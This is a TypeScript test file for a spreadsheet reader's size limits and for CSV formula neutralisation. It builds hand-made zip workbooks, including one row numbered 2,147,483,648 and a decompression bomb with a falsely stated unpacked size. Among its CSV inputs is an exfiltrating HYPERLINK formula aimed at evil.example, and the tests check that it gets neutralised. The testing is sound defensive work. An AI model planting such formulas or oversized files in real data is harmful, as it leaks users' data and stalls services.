// The sheet reader's limits (issue 14): a tiny workbook with one row numbered 2,147,483,648
// blocked the server for 49 s; rows, columns, cell sizes and unpacked sizes are now bounded
// before the reading loops run, each refused as a named limit. And CSV exports neutralise
// cells a spreadsheet program would run as formulas.

import { test } from 'node:test';
import assert from 'node:assert/strict';
import { deflateRawSync } from 'node:zlib';
import ExcelJS from 'exceljs';
import { readGrid, SHEET_LIMITS } from './read.ts';
import { neutralise, tableToCsv, tableToXlsx, type Table } from './table.ts';

const CRC_TABLE = Array.from({ length: 256 }, (_, n) => {
  let c = n;
  for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  return c >>> 0;
});
function crc32(b: Buffer): number {
  let c = 0xffffffff;
  for (const x of b) c = CRC_TABLE[(c ^ x) & 0xff] ^ (c >>> 8);
  return (c ^ 0xffffffff) >>> 0;
}

/** A zip archive of deflated entries (APPNOTE 4.3); `claim` overrides an entry's stated unpacked size. */
function zip(files: Record<string, string>, claim: Record<string, number> = {}): Buffer {
  const locals: Buffer[] = [];
  const central: Buffer[] = [];
  let offset = 0;
  for (const [name, text] of Object.entries(files)) {
    const raw = Buffer.from(text);
    const data = deflateRawSync(raw);
    const nameBytes = Buffer.from(name);
    const head = Buffer.alloc(30);
    head.writeUInt32LE(0x04034b50, 0);
    head.writeUInt16LE(20, 4);
    head.writeUInt16LE(8, 8);
    head.writeUInt32LE(crc32(raw), 14);
    head.writeUInt32LE(data.length, 18);
    head.writeUInt32LE(raw.length, 22);
    head.writeUInt16LE(nameBytes.length, 26);
    locals.push(head, nameBytes, data);
    const dir = Buffer.alloc(46);
    dir.writeUInt32LE(0x02014b50, 0);
    dir.writeUInt16LE(20, 4);
    dir.writeUInt16LE(20, 6);
    dir.writeUInt16LE(8, 10);
    dir.writeUInt32LE(crc32(raw), 16);
    dir.writeUInt32LE(data.length, 20);
    dir.writeUInt32LE(claim[name] ?? raw.length, 24);
    dir.writeUInt16LE(nameBytes.length, 28);
    dir.writeUInt32LE(offset, 42);
    central.push(dir, nameBytes);
    offset += head.length + nameBytes.length + data.length;
  }
  const cd = Buffer.concat(central);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(Object.keys(files).length, 8);
  end.writeUInt16LE(Object.keys(files).length, 10);
  end.writeUInt32LE(cd.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, cd, end]);
}

const esc = (s: string) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;');

/** A minimal workbook: one sheet "Items" of inline-string and number cells at the given refs. */
function workbook(rows: { r: number; cells: [string, string | number][] }[], claim?: number): Buffer {
  const sheetRows = rows.map(({ r, cells }) => `<row r="${r}">${cells.map(([ref, v]) => typeof v === 'number'
    ? `<c r="${ref}"><v>${v}</v></c>`
    : `<c r="${ref}" t="inlineStr"><is><t>${esc(v)}</t></is></c>`).join('')}</row>`).join('');
  const ns = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"';
  const rel = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
  const sheet = `<?xml version="1.0" encoding="UTF-8"?><worksheet ${ns}><sheetData>${sheetRows}</sheetData></worksheet>`;
  return zip({
    '[Content_Types].xml': '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>',
    '_rels/.rels': `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${rel}/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
    'xl/workbook.xml': `<?xml version="1.0" encoding="UTF-8"?><workbook ${ns} xmlns:r="${rel}"><sheets><sheet name="Items" sheetId="1" r:id="rId1"/></sheets></workbook>`,
    'xl/_rels/workbook.xml.rels': `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${rel}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`,
    'xl/worksheets/sheet1.xml': sheet,
  }, claim === undefined ? {} : { 'xl/worksheets/sheet1.xml': claim });
}

const header = { r: 1, cells: [['A1', 'id'], ['B1', 'Qty']] as [string, string | number][] };

test('the hand-made workbook reads as a sheet, so the refusals below are the limits', async () => {
  const r = await readGrid({ buffer: workbook([header, { r: 2, cells: [['A2', 'gen'], ['B2', 3]] }]), name: 'items.xlsx' }, 'Items');
  assert.ok(r.ok);
  assert.deepEqual(r.grid.rows, [{ row: 1, cells: ['id', 'Qty'] }, { row: 2, cells: ['gen', 3] }]);
});

test('a workbook of a few kB with one row numbered 2,147,483,648 is refused by its row number', async () => {
  const bytes = workbook([header, { r: 2_147_483_648, cells: [['A2147483648', 'gen'], ['B2147483648', 3]] }]);
  assert.ok(bytes.length < 7000);
  const r = await readGrid({ buffer: bytes, name: 'items.xlsx' }, 'Items');
  assert.ok(!r.ok);
  assert.deepEqual([r.issue.code, r.issue.line, r.issue.file], ['limit', 2_147_483_648, 'items.xlsx']);
  assert.match(r.issue.message, /^row 2,147,483,648 is beyond the 200,000 rows a sheet may have \(/);
  // the last row allowed still reads
  const last = await readGrid({ buffer: workbook([header, { r: SHEET_LIMITS.rows.value, cells: [[`A${SHEET_LIMITS.rows.value}`, 'gen']] }]), name: 'items.xlsx' }, 'Items');
  assert.ok(last.ok);
});

test('columns, cell sizes and unpacked sizes have limits named in the issue', async () => {
  const wide = await readGrid({ buffer: workbook([header, { r: 2, cells: [['XFD2', 'far']] }]), name: 'items.xlsx' }, 'Items');
  assert.ok(!wide.ok);
  assert.match(wide.issue.message, /^the row has 16,384 columns, more than the 256 a sheet may have/);
  const long = await readGrid({ buffer: workbook([header, { r: 2, cells: [['A2', 'x'.repeat(40_000)]] }]), name: 'items.xlsx' }, 'Items');
  assert.ok(!long.ok);
  assert.deepEqual([long.issue.code, long.issue.line], ['limit', 2]);
  assert.match(long.issue.message, /^the cell in column 1 has 40,000 characters, more than the 32,767 a cell may have \(Excel's own limit/);
  const bomb = await readGrid({ buffer: workbook([header], 300 * 1024 * 1024), name: 'items.xlsx' }, 'Items');
  assert.ok(!bomb.ok);
  assert.match(bomb.issue.message, /^the workbook unpacked is 300 MB, more than the 256 MB a sheet may have/);
});

test('CSV rows, columns and cells have the same limits', async () => {
  const csv = (text: string) => readGrid({ buffer: Buffer.from(text), name: 'items.csv' }, 'Items');
  const many = await csv(`id,Qty\n${'g,1\n'.repeat(SHEET_LIMITS.rows.value)}`);
  assert.ok(!many.ok);
  assert.match(many.issue.message, /^row 200,001 is beyond the 200,000 rows a sheet may have/);
  const wide = await csv(`${Array(300).fill('h').join(',')}\n`);
  assert.ok(!wide.ok);
  assert.match(wide.issue.message, /^the row has 300 columns, more than the 256/);
  const long = await csv(`id,name\ng,${'x'.repeat(40_000)}\n`);
  assert.ok(!long.ok);
  assert.deepEqual([long.issue.line, long.issue.code], [2, 'limit']);
  const endless = await csv(`id,name\ng,"${'x'.repeat(SHEET_LIMITS.cellChars.value * SHEET_LIMITS.columns.value + 10)}"\n`);
  assert.ok(!endless.ok);
  assert.match(endless.issue.message, /^a row is longer than the 8,388,352 characters/);
});

test('CSV cells that a spreadsheet would run as formulas get a leading quote; numbers stay numbers', async () => {
  const table: Table = {
    sheet: 'Transfers',
    columns: [{ header: 'item', type: 'text' }, { header: 'value', type: 'usd' }],
    rows: [
      ['=HYPERLINK("http://evil.example/?"&A1,"click")', -1500],
      ['+1', 2], ['-2+3', -0.5], ['@SUM(A1:A2)', 0], ['\tcmd', 1], ['\rcmd', 1], ['Generator -20 kW', 3], ['', null],
    ],
  };
  const lines = tableToCsv(table).replace(/^\uFEFF/, '').split('\r\n');
  assert.deepEqual(lines.slice(1, -1), [
    '"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")",-1500',
    "'+1,2",
    "'-2+3,-0.5",
    "'@SUM(A1:A2),0",
    "'\tcmd,1",
    '"\'\rcmd",1',
    'Generator -20 kW,3',
    ',',
  ]);
  assert.equal(neutralise(-7), -7);
  // XLSX: typed cells, so text is shown as written and negative numbers stay numbers
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load((await tableToXlsx([table])) as unknown as ArrayBuffer);
  const ws = wb.worksheets[0];
  assert.deepEqual([ws.getCell('A2').value, ws.getCell('B2').value, ws.getCell('B4').value], [table.rows[0][0], -1500, -0.5]);
});
